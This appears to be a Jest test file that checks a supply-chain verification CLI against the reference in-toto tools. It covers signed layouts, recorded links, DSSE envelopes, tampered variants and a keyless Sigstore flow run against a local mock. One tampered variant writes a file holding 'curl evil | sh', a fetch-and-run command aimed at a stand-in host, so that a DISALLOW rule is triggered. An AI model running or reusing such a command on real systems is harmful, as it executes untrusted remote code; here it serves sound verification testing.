/**
 * The CLI (dist/cli.js) against the Debian reference tools, complementing intoto-interop.test.ts:
 *  - the demo vectors of test/fixtures/test-vectors: the layout template signed by in-toto-sign or by
 *    `provenant layout sign`, verified by both tools; the DSSE set (DSSE links and a DSSE layout) by Provenant;
 *  - a supply chain recorded with the reference's in-toto-run, then each tampered variant of the issue (a product
 *    modified after the step, a link by an unauthorized key, threshold not met, an expired layout, a DISALLOW hit, a
 *    failing inspection): Provenant fails exactly when in-toto-verify fails;
 *  - in-toto-record and `provenant record` links verified by the other tool;
 *  - every in-toto case of test/fixtures/corpus (layouts, links, the in-toto DSSE link) agrees with its `expect`, and
 *    where the case names an in-toto-verify cross-check, with in-toto-verify too.
 */
import { beforeAll, describe, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CORPUS, TEST_VECTORS } from '../support/paths.js';
import { ensureBuilt, runCli, provSync, referenceTool } from '../support/runner.js';
import { startSigstore } from '../support/sigstore-servers.js';

const DEMO = join(TEST_VECTORS, 'in-toto-demo');
const DEMO_DSSE = join(TEST_VECTORS, 'in-toto-demo-dsse');
let root: string;
let keys: string;

const prov = provSync;
const ref = referenceTool;

async function cli(args: string[], cwd: string): Promise<{ code: number; out: string }> {
  const r = await runCli(args, { cwd });
  return { code: r.code, out: r.stdout + r.stderr };
}

/** Verifies a folder with both tools, each in its own copy (inspections write into it). */
function both(
  work: string,
  layout: string,
  layoutKeys = [join(keys, 'alice.pub')],
): { ours: number; theirs: number; oursOut: string; theirsOut: string } {
  const a = `${work}-ours-${Math.random().toString(36).slice(2, 8)}`;
  const b = `${work}-ref-${Math.random().toString(36).slice(2, 8)}`;
  cpSync(work, a, { recursive: true });
  cpSync(work, b, { recursive: true });
  const o = prov(['verify', '--layout', layout, ...layoutKeys.flatMap((k) => ['--layout-key', k]), '--links', '.'], a);
  const t = ref('in-toto-verify', ['--layout', layout, '--layout-keys', ...layoutKeys], b);
  return { ours: o.code, theirs: t.code, oursOut: o.out, theirsOut: t.out };
}

/** The demo template with an expiry-free body, its python tar stand-in replaced by tar (as the corpus does). */
function demoTemplate(): Record<string, any> {
  const t = JSON.parse(readFileSync(join(DEMO, 'demo.layout.template'), 'utf8'));
  t.signed.inspect[0].run = ['tar', 'xfz', 'foo.tar.gz'];
  return t;
}

beforeAll(async () => {
  await ensureBuilt();
  root = mkdtempSync(join(tmpdir(), 'prov-intoto-ref-'));
  keys = join(root, 'keys');
  mkdirSync(keys);
  for (const k of ['alice', 'alice.pub', 'bob', 'bob.pub', 'carl', 'carl.pub', 'danny', 'danny.pub'])
    cpSync(join(DEMO, k), join(keys, k));
}, 120000);

describe('the demo vectors, each signing tool with each verifier', () => {
  const demoWork = (name: string, linkSet: string) => {
    const w = join(root, name);
    mkdirSync(w);
    for (const f of ['write-code.776a00e2.link', 'package.2f89b927.link']) cpSync(join(linkSet, f), join(w, f));
    cpSync(join(DEMO, 'foo.tar.gz'), join(w, 'foo.tar.gz'));
    return w;
  };
  test('the template signed by in-toto-sign (which adds expires): both verify the demo links', () => {
    const w = demoWork('demo-insign', DEMO);
    writeFileSync(join(root, 'demo-insign.template'), JSON.stringify(demoTemplate()));
    expect(
      ref(
        'in-toto-sign',
        ['-f', join(root, 'demo-insign.template'), '-k', join(keys, 'alice'), '-o', join(root, 'demo-insign.layout')],
        root,
      ).code,
    ).toBe(0);
    const r = both(w, join(root, 'demo-insign.layout'));
    expect(r.theirsOut).not.toMatch(/Error/);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
  });
  test('the template signed by provenant layout sign (expires added as in-toto-sign does): both verify', () => {
    const w = demoWork('demo-provsign', DEMO);
    const file = join(root, 'demo-provsign.layout');
    writeFileSync(file, JSON.stringify(demoTemplate()));
    const s = prov(['layout', 'sign', file, '--key', join(keys, 'alice')], root);
    expect(s.code).toBe(0);
    const signed = JSON.parse(readFileSync(file, 'utf8'));
    expect(signed.signed.expires).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    expect(signed.signatures).toEqual([
      {
        keyid: '556caebdc0877eed53d419b60eddb1e57fa773e4e31d70698b588f3e9cc48b35',
        sig: expect.stringMatching(/^[0-9a-f]+$/),
      },
    ]);
    const r = both(w, file);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
    // a second key (danny, ed25519 securesystemslib JSON) added: both keys required by both tools
    expect(prov(['layout', 'sign', file, '--key', join(keys, 'danny')], root).code).toBe(0);
    expect(JSON.parse(readFileSync(file, 'utf8')).signatures).toHaveLength(2);
    cpSync(w, `${w}-2`, { recursive: true });
    cpSync(w, `${w}-3`, { recursive: true });
    expect(
      prov(
        ['verify', '--layout', file, '--layout-key', join(keys, 'alice.pub'), '--layout-key', join(keys, 'danny.pub')],
        `${w}-2`,
      ).code,
    ).toBe(0);
    expect(
      ref(
        'in-toto-verify',
        [
          '--layout',
          file,
          '--layout-keys',
          join(keys, 'alice.pub'),
          join(keys, 'danny.pub'),
          '--key-types',
          'rsa',
          'ed25519',
        ],
        `${w}-3`,
      ).code,
    ).toBe(0);
  });
  test('the DSSE set: DSSE links with the Metablock layout, and the DSSE layout template signed by provenant layout sign', () => {
    const w = demoWork('demo-dsse', DEMO_DSSE);
    const meta = join(root, 'demo-dsse-meta.layout');
    writeFileSync(meta, JSON.stringify(demoTemplate()));
    expect(prov(['layout', 'sign', meta, '--key', join(keys, 'alice')], root).code).toBe(0);
    cpSync(w, `${w}-a`, { recursive: true });
    expect(prov(['verify', '--layout', meta, '--layout-key', join(keys, 'alice.pub')], `${w}-a`)).toMatchObject({
      code: 0,
    });
    // the DSSE layout template: its payload without expires, the python tar stand-in replaced, then signed
    const env = JSON.parse(readFileSync(join(DEMO_DSSE, 'demo.layout.template'), 'utf8'));
    const body = JSON.parse(Buffer.from(env.payload, 'base64').toString());
    body.inspect[0].run = ['tar', 'xfz', 'foo.tar.gz'];
    const dsse = join(root, 'demo-dsse.layout');
    writeFileSync(
      dsse,
      JSON.stringify({
        payload: Buffer.from(JSON.stringify(body)).toString('base64'),
        payloadType: env.payloadType,
        signatures: [],
      }),
    );
    const s = prov(['layout', 'sign', dsse, '--key', join(keys, 'alice')], root);
    expect(s.out).toMatch(/DSSE, 1 signature/);
    const signed = JSON.parse(readFileSync(dsse, 'utf8'));
    expect(JSON.parse(Buffer.from(signed.payload, 'base64').toString()).expires).toMatch(/Z$/);
    cpSync(w, `${w}-b`, { recursive: true });
    const r = prov(['verify', '--layout', dsse, '--layout-key', join(keys, 'alice.pub'), '--json'], `${w}-b`);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out.slice(r.out.indexOf('{')))).toMatchObject({
      verified: true,
      steps: [{ name: 'write-code' }, { name: 'package' }],
      inspections: [{ name: 'untar' }],
    });
    // a DSSE layout whose payload was changed after signing is rejected
    const bad = {
      ...signed,
      payload: Buffer.from(
        JSON.stringify({ ...JSON.parse(Buffer.from(signed.payload, 'base64').toString()), readme: 'x' }),
      ).toString('base64'),
    };
    writeFileSync(dsse, JSON.stringify(bad));
    cpSync(w, `${w}-c`, { recursive: true });
    const r2 = prov(['verify', '--layout', dsse, '--layout-key', join(keys, 'alice.pub')], `${w}-c`);
    expect(r2.code).toBe(1);
    expect(r2.out).toMatch(/LAYOUT_SIGNATURE/);
  });
});

describe('a supply chain recorded with in-toto-run, and each tampered variant', () => {
  const STRICT = {
    expires: '30d',
    keys: { bob: 'KEYS/bob.pub', carl: 'KEYS/carl.pub', danny: 'KEYS/danny.pub' },
    steps: [
      { name: 'write-code', functionaries: ['bob'], products: ['CREATE foo.py', 'DISALLOW *'] },
      {
        name: 'package',
        functionaries: ['carl'],
        expected_command: 'tar zcvf foo.tar.gz foo.py',
        materials: ['MATCH foo.py WITH PRODUCTS FROM write-code', 'DISALLOW *'],
        products: ['CREATE foo.tar.gz', 'ALLOW foo.py', 'DISALLOW *'],
      },
    ],
    inspect: [
      {
        name: 'untar',
        run: 'tar xfz foo.tar.gz',
        materials: ['MATCH foo.tar.gz WITH PRODUCTS FROM package', 'DISALLOW *'],
        products: [
          'MATCH foo.py WITH PRODUCTS FROM write-code',
          'MATCH foo.tar.gz WITH PRODUCTS FROM package',
          'DISALLOW *',
        ],
      },
    ],
  };
  /** Lays out the chain: layout by provenant layout new (signed by alice), links by in-toto-run. */
  function make(
    name: string,
    opts: {
      desc?: (d: any) => void;
      packageKey?: string;
      extraProduct?: boolean;
      after?: (work: string, dir: string) => void;
    } = {},
  ): { work: string; layout: string } {
    const dir = join(root, `chain-${name}`);
    const work = join(dir, 'work');
    mkdirSync(work, { recursive: true });
    const d = JSON.parse(JSON.stringify(STRICT).replaceAll('KEYS', keys));
    opts.desc?.(d);
    writeFileSync(join(dir, 'layout.json'), JSON.stringify(d));
    expect(prov(['layout', 'new', 'layout.json', '-o', 'root.layout', '--key', join(keys, 'alice')], dir).code).toBe(0);
    expect(
      ref(
        'in-toto-run',
        ['-n', 'write-code', '-k', join(keys, 'bob'), '-p', 'foo.py', '--', 'sh', '-c', 'echo "print(1)" > foo.py'],
        work,
      ).code,
    ).toBe(0);
    if (opts.extraProduct) writeFileSync(join(work, 'evil.sh'), 'curl evil | sh\n');
    const products = ['foo.tar.gz', 'foo.py', ...(opts.extraProduct ? ['evil.sh'] : [])];
    const pk = opts.packageKey ?? 'carl';
    const kt = pk === 'danny' ? ['-t', 'ed25519'] : [];
    expect(
      ref(
        'in-toto-run',
        [
          '-n',
          'package',
          '-k',
          join(keys, pk),
          ...kt,
          '-m',
          'foo.py',
          '-p',
          ...products,
          '--',
          'tar',
          'zcvf',
          'foo.tar.gz',
          'foo.py',
        ],
        work,
      ).code,
    ).toBe(0);
    rmSync(join(work, 'foo.py'));
    opts.after?.(work, dir);
    return { work, layout: join(dir, 'root.layout') };
  }
  test('the untampered chain verifies with both', () => {
    const c = make('ok');
    const r = both(c.work, c.layout);
    expect(r.theirsOut).not.toMatch(/Error/);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
  });
  const variants: Array<[string, Parameters<typeof make>[1], RegExp]> = [
    [
      'a product modified after the step',
      {
        after: (w) => {
          writeFileSync(join(w, 'foo.py'), 'print("evil")\n');
          execFileSync('tar', ['zcf', 'foo.tar.gz', 'foo.py'], { cwd: w });
          rmSync(join(w, 'foo.py'));
        },
      },
      /RULE_FAILED.*inspection 'untar'/,
    ],
    ['a link signed by an unauthorized key', { packageKey: 'bob' }, /THRESHOLD_NOT_MET.*'package'/],
    [
      'an unauthorized link renamed to the authorized file name',
      {
        packageKey: 'bob',
        after: (w) => {
          cpSync(join(w, 'package.776a00e2.link'), join(w, 'package.2f89b927.link'));
          rmSync(join(w, 'package.776a00e2.link'));
        },
      },
      /THRESHOLD_NOT_MET.*'package'/,
    ],
    [
      'threshold not met (2 of carl and danny, only carl)',
      { desc: (d) => Object.assign(d.steps[1], { functionaries: ['carl', 'danny'], threshold: 2 }) },
      /THRESHOLD_NOT_MET.*'package' requires 2/,
    ],
    [
      'an expired layout (re-signed with in-toto-sign)',
      {
        after: (_w, dir) => {
          const l = JSON.parse(readFileSync(join(dir, 'root.layout'), 'utf8'));
          l.signed.expires = '2020-01-01T00:00:00Z';
          writeFileSync(join(dir, 'unsigned.layout'), JSON.stringify({ signed: l.signed, signatures: [] }));
          expect(
            ref(
              'in-toto-sign',
              ['-f', join(dir, 'unsigned.layout'), '-k', join(keys, 'alice'), '-o', join(dir, 'root.layout')],
              dir,
            ).code,
          ).toBe(0);
        },
      },
      /LAYOUT_EXPIRED/,
    ],
    ['a DISALLOW hit (an extra product)', { extraProduct: true }, /RULE_FAILED.*step 'package'.*DISALLOW \*.*evil\.sh/],
    [
      'a failing inspection',
      { desc: (d) => (d.inspect[0].run = 'tar xfz missing.tar.gz') },
      /INSPECTION_FAILED.*inspection 'untar'/,
    ],
    [
      'a link edited after signing',
      {
        after: (w) => {
          const f = join(w, 'package.2f89b927.link');
          const l = JSON.parse(readFileSync(f, 'utf8'));
          l.signed.products['foo.tar.gz'].sha256 = '0'.repeat(64);
          writeFileSync(f, JSON.stringify(l));
        },
      },
      /THRESHOLD_NOT_MET/,
    ],
  ];
  for (const [name, opts, why] of variants) {
    test(`${name}: both fail`, () => {
      const c = make(name.replace(/\W+/g, '-'), opts);
      const r = both(c.work, c.layout);
      expect({ ours: r.ours, theirs: r.theirs }).toEqual({ ours: 1, theirs: 1 });
      expect(r.oursOut).toMatch(why);
    });
  }
  test('the threshold met by two functionaries (carl with RSA, danny with ed25519) verifies with both', () => {
    const c = make('threshold-met', {
      desc: (d) => Object.assign(d.steps[1], { functionaries: ['carl', 'danny'], threshold: 2 }),
      after: (w) => {
        // danny repeats the package step; both links must report the same artifacts
        execFileSync('tar', ['xfz', 'foo.tar.gz'], { cwd: w });
        expect(
          ref(
            'in-toto-run',
            [
              '-n',
              'package',
              '-k',
              join(keys, 'danny'),
              '-t',
              'ed25519',
              '-m',
              'foo.py',
              '-p',
              'foo.tar.gz',
              'foo.py',
              '--',
              'true',
            ],
            w,
          ).code,
        ).toBe(0);
        rmSync(join(w, 'foo.py'));
      },
    });
    const r = both(c.work, c.layout);
    expect([r.ours, r.theirs]).toEqual([0, 0]);
  });
});

describe('in-toto-record and provenant record, each verified by the other tool', () => {
  const desc = (k: string) => ({
    expires: '30d',
    keys: { bob: join(k, 'bob.pub'), carl: join(k, 'carl.pub') },
    steps: [
      { name: 'edit', functionaries: ['bob'], materials: [], products: ['CREATE notes.txt', 'DISALLOW *'] },
      {
        name: 'review',
        functionaries: ['carl'],
        materials: ['MATCH notes.txt WITH PRODUCTS FROM edit', 'DISALLOW *'],
        products: ['MODIFY notes.txt', 'DISALLOW *'],
      },
    ],
    inspect: [],
  });
  function record(tool: 'prov' | 'ref', work: string): void {
    const start = (step: string, key: string, m: string[]) =>
      tool === 'prov'
        ? prov(
            ['record', 'start', '--step', step, '--key', join(keys, key), ...(m.length ? ['--materials', ...m] : [])],
            work,
          )
        : ref('in-toto-record', ['start', '-n', step, '-k', join(keys, key), ...(m.length ? ['-m', ...m] : [])], work);
    const stop = (step: string, key: string, p: string[]) =>
      tool === 'prov'
        ? prov(['record', 'stop', '--step', step, '--key', join(keys, key), '--legacy', '--products', ...p], work)
        : ref('in-toto-record', ['stop', '-n', step, '-k', join(keys, key), '-p', ...p], work);
    expect(start('edit', 'bob', []).code).toBe(0);
    writeFileSync(join(work, 'notes.txt'), 'draft\n');
    expect(stop('edit', 'bob', ['notes.txt']).code).toBe(0);
    expect(start('review', 'carl', ['notes.txt']).code).toBe(0);
    writeFileSync(join(work, 'notes.txt'), 'reviewed\n');
    expect(stop('review', 'carl', ['notes.txt']).code).toBe(0);
  }
  for (const tool of ['prov', 'ref'] as const) {
    test(`links recorded by ${tool === 'prov' ? 'provenant record --legacy' : 'in-toto-record'}: both verify; a changed review fails both`, () => {
      const dir = join(root, `record-${tool}`);
      const work = join(dir, 'work');
      mkdirSync(work, { recursive: true });
      writeFileSync(join(dir, 'layout.json'), JSON.stringify(desc(keys)));
      expect(prov(['layout', 'new', 'layout.json', '-o', 'root.layout', '--key', join(keys, 'alice')], dir).code).toBe(
        0,
      );
      record(tool, work);
      expect(existsSync(join(work, 'edit.776a00e2.link'))).toBe(true);
      expect(existsSync(join(work, 'review.2f89b927.link'))).toBe(true);
      const r = both(work, join(dir, 'root.layout'));
      expect([r.ours, r.theirs]).toEqual([0, 0]);
      // the reviewer's recorded materials no longer match what edit produced
      const f = join(work, 'edit.776a00e2.link');
      const l = JSON.parse(readFileSync(f, 'utf8'));
      l.signed.products['notes.txt'].sha256 = 'ab'.repeat(32);
      writeFileSync(f, JSON.stringify(l));
      const bad = both(work, join(dir, 'root.layout'));
      expect([bad.ours, bad.theirs]).toEqual([1, 1]);
    });
  }
});

describe('provenant run --legacy records what in-toto-run records', () => {
  let tree: string;
  beforeAll(() => {
    tree = join(root, 'tree');
    const f = (p: string) => {
      mkdirSync(join(tree, p, '..'), { recursive: true });
      writeFileSync(join(tree, p), `${p}\n`);
    };
    for (const p of [
      'foo.py',
      'foo.pyc',
      'notes~',
      'old.link',
      'src/a.c',
      'src/b.h',
      'src/gen/c.c',
      'docs/x.md',
      '.git/HEAD',
      'build/out/app.bin',
      'sp ace/f.txt',
    ])
      f(p);
    execFileSync('ln', ['-s', 'foo.py', join(tree, 'link-to-foo')]);
    execFileSync('ln', ['-s', 'src', join(tree, 'link-to-src')]);
  });
  const cases: Array<[string, string[], string[]]> = [
    ['the whole tree with the default excludes', ['-m', '.', '-p', '.'], ['--materials', '.', '--products', '.']],
    [
      'explicit paths, normalized',
      ['-m', './foo.py', 'src/../docs', 'missing.txt', '-p', 'src'],
      ['--materials', './foo.py', 'src/../docs', 'missing.txt', '--products', 'src'],
    ],
    [
      'exclude patterns replace the defaults',
      ['--exclude', '*.c', 'docs/', '-m', '.', '-p', '.'],
      ['--exclude', '*.c', 'docs/', '--materials', '.', '--products', '.'],
    ],
    [
      'lstrip paths',
      ['--lstrip-paths', 'src/', 'build/out/', '-m', 'src', 'build', '-p', 'src'],
      ['--lstrip-paths', 'src/', 'build/out/', '--materials', 'src', 'build', '--products', 'src'],
    ],
    [
      'a base path',
      ['--base-path', 'src', '-m', '.', '-p', 'gen'],
      ['--base-path', 'src', '--materials', '.', '--products', 'gen'],
    ],
  ];
  for (const [name, theirs, ours] of cases) {
    test(name, () => {
      const a = join(root, `run-${name.replace(/\W+/g, '-')}`);
      mkdirSync(a);
      const outA = join(a, 'ref');
      const outB = join(a, 'prov');
      mkdirSync(outA);
      mkdirSync(outB);
      expect(
        ref('in-toto-run', ['-n', 'scan', '-k', join(keys, 'bob'), '-d', outA, ...theirs, '--', 'true'], tree).code,
      ).toBe(0);
      const r = prov(
        ['run', '--legacy', '--step', 'scan', '--key', join(keys, 'bob'), '--output-dir', outB, ...ours, '--', 'true'],
        tree,
      );
      expect(r.code).toBe(0);
      const t = JSON.parse(readFileSync(join(outA, 'scan.776a00e2.link'), 'utf8')).signed;
      const o = JSON.parse(readFileSync(join(outB, 'scan.776a00e2.link'), 'utf8')).signed;
      expect({ materials: o.materials, products: o.products }).toEqual({
        materials: t.materials,
        products: t.products,
      });
      expect(Object.keys(t.materials).length + Object.keys(t.products).length).toBeGreaterThan(0);
    });
  }
});

describe('provenant run --sigstore (keyless, against a local Sigstore)', () => {
  test('the link v0.3 Statement is signed keyless into a Sigstore bundle that provenant verify accepts', async () => {
    const dir = join(root, 'keyless');
    mkdirSync(dir);
    const s = await startSigstore({ rekor: true, tsa: false, dir });
    try {
      const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
      const now = Math.floor(Date.now() / 1000);
      const wf = 'octo/app/.github/workflows/build.yml@refs/heads/main';
      // the mock Fulcio accepts an unsigned token and takes the certificate's SAN from fulcio_san
      const claims = {
        iss: 'https://token.actions.githubusercontent.com',
        sub: 'repo:octo/app:ref:refs/heads/main',
        aud: 'sigstore',
        iat: now,
        exp: now + 600,
        job_workflow_ref: wf,
        repository: 'octo/app',
        ref: 'refs/heads/main',
        sha: 'c27d339ee6075c1f744c5d4b200f7901aad2c369',
        fulcio_san: `https://github.com/${wf}`,
      };
      const jwt = `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims)}.sig`;
      writeFileSync(join(dir, 'in.txt'), 'source\n');
      // the local Sigstore runs in this process: the CLI runs asynchronously (runCli), not with spawnSync
      const r = await cli(
        [
          'run',
          '--step',
          'build',
          '--sigstore',
          '--identity-token',
          jwt,
          '--fulcio-url',
          s.fulcioURL,
          '--rekor-url',
          s.rekorURL!,
          '--materials',
          'in.txt',
          '--products',
          'out.txt',
          '--record-streams',
          '--',
          'sh',
          '-c',
          'cat in.txt > out.txt; echo built',
        ],
        dir,
      );
      expect(r.code).toBe(0);
      expect(r.out).toMatch(/built\n/);
      const env = JSON.parse(readFileSync(join(dir, 'build.link.intoto.jsonl'), 'utf8'));
      const st = JSON.parse(Buffer.from(env.payload, 'base64').toString());
      expect(st).toMatchObject({
        predicateType: 'https://in-toto.io/attestation/link/v0.3',
        subject: [{ name: 'out.txt' }],
        predicate: {
          name: 'build',
          materials: [{ name: 'in.txt' }],
          byproducts: { stdout: 'built\n', 'return-value': 0 },
        },
      });
      const v = await cli(
        [
          'verify',
          'out.txt',
          '--bundle',
          'build.link.sigstore.json',
          '--trusted-root',
          s.trustedRootPath,
          '--cert-identity',
          `https://github.com/${wf}`,
          '--json',
        ],
        dir,
      );
      expect(v.code).toBe(0);
      expect(JSON.parse(v.out.slice(v.out.indexOf('{')))).toMatchObject({
        verified: true,
        results: [{ predicateType: 'https://in-toto.io/attestation/link/v0.3' }],
      });
      // --legacy needs a key
      expect(
        prov(['run', '--legacy', '--step', 'x', '--sigstore', '--identity-token', jwt, '--', 'true'], dir).code,
      ).toBe(2);
    } finally {
      await s.close();
    }
  }, 60000);
});

describe('every in-toto case of test/fixtures/corpus agrees with its expect (and with in-toto-verify where cross-checked)', () => {
  const manifest = JSON.parse(readFileSync(join(CORPUS, 'MANIFEST.json'), 'utf8')) as {
    cases: Array<Record<string, any>>;
  };
  const cases = manifest.cases.filter(
    (c) =>
      c.kind === 'intoto-layout' || c.kind === 'intoto-link' || (c.kind === 'dsse-envelope' && c.group === 'in-toto'),
  );
  test(`${cases.length} cases`, () => {
    const rows: string[] = [];
    let agree = 0;
    for (const c of cases) {
      const caseDir = join(CORPUS, c.path.split('/').slice(0, -1).join('/'));
      const work = join(root, `corpus-${c.id}`);
      cpSync(caseDir, work, { recursive: true });
      const file = c.path.split('/').pop();
      const key = c.verificationKey
        ? join(CORPUS, c.verificationKey.replace(/^public\//, ''))
        : join(work, 'alice.pub');
      const r =
        c.kind === 'intoto-layout'
          ? prov(['verify', '--layout', file, '--layout-key', key, '--links', c.linkDir ?? '.'], work)
          : prov(['verify', '--bundle', file, '--key', key, '--no-subject-check'], work);
      const got = r.code === 0 ? 'valid' : 'invalid';
      let cross = '';
      if (typeof c.crossCheck === 'string' && /in-toto-verify/.test(c.crossCheck)) {
        const w2 = `${work}-ref`;
        cpSync(caseDir, w2, { recursive: true });
        const t = ref('in-toto-verify', ['--layout', file, '--layout-keys', key], w2);
        cross = ` in-toto-verify ${t.code === 0 ? 'valid' : 'invalid'}`;
        if ((t.code === 0) !== (r.code === 0)) cross += ' (DISAGREES)';
      }
      const ok = got === c.expect && !cross.includes('DISAGREES');
      if (ok) agree++;
      rows.push(`${ok ? 'agree   ' : 'DISAGREE'} ${c.kind} ${c.id}: expect ${c.expect}, provenant ${got}${cross}`);
    }
    console.log(`in-toto corpus: ${agree}/${cases.length}\n${rows.join('\n')}`);
    expect(rows.filter((x) => x.startsWith('DISAGREE'))).toEqual([]);
    expect(cases.length).toBeGreaterThanOrEqual(9);
  });
});
